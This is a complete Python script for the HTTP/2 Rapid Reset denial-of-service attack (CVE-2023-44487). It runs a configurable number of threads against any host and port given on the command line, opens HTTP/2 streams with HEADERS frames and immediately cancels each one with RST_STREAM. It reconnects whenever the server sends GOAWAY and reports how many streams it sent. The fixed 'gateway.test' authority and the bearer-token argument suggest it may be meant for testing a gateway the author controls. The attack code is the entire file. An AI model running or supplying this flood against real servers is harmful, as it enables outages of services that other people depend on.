"""Opens HTTP/2 streams and resets each at once (CVE-2023-44487). HOST PORT SECONDS COUNT TOKEN

COUNT connections at a time; each writes HEADERS and RST_STREAM as fast as it may. When the gateway ends a connection (GOAWAY
or a close), a new one is opened.
"""

import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
END_STREAM_END_HEADERS = 0x05
CANCEL = 8
BATCH = 100


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field that is not indexed (RFC 7541 section 6.2.2); lengths of 127 and more continue in a second byte."""
    def text(data):
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, out = len(data) - 127, bytearray([127])
        while rest >= 128:
            out.append(rest % 128 + 128)
            rest //= 128
        return bytes(out) + bytes([rest]) + data
    return b"\x00" + text(name) + text(value)


def run(host, port, end, fields, counts):
    while time.monotonic() < end:
        counts["connections"] += 1
        try:
            with socket.create_connection((host, port), 5) as connection:
                flood(connection, end, fields, counts)
        except OSError:
            counts["ended"] += 1
            time.sleep(0.01)


def flood(connection, end, fields, counts):
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    connection.settimeout(0.001)
    stream, received = 1, b""
    while time.monotonic() < end:
        streams = range(stream, stream + 2 * BATCH, 2)
        cancel = struct.pack(">I", CANCEL)
        connection.settimeout(5)
        connection.sendall(b"".join(
            frame(HEADERS, END_STREAM_END_HEADERS, number, fields) + frame(RST_STREAM, 0, number, cancel)
            for number in streams))
        stream += 2 * BATCH
        counts["streams"] += BATCH
        connection.settimeout(0.001)
        try:
            piece = connection.recv(65536)
        except TimeoutError:
            continue
        received = (received + piece)[-65536:]
        if not piece or goaway(received):
            counts["ended"] += 1
            counts["goaway"] += goaway(received)
            return


def goaway(received):
    """Whether a GOAWAY is among the frames; they are read from the first one on."""
    at = 0
    while at + 9 <= len(received):
        if received[at + 3] == GOAWAY:
            return True
        at += 9 + int.from_bytes(received[at:at + 3], "big")
    return False


def main():
    host, port, seconds, count, token = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
    fields = b"\x82\x86" + literal(b":path", b"/packs") + literal(b":authority", b"gateway.test")
    fields += literal(b"authorization", b"Bearer " + token.encode())
    counts = {"connections": 0, "streams": 0, "ended": 0, "goaway": 0}
    end = time.monotonic() + seconds
    threads = [threading.Thread(target=run, args=(host, port, end, fields, counts)) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(f"{counts['streams']} streams opened and reset on {counts['connections']} connections; the gateway ended "
          f"{counts['ended']}, {counts['goaway']} with GOAWAY")


main()
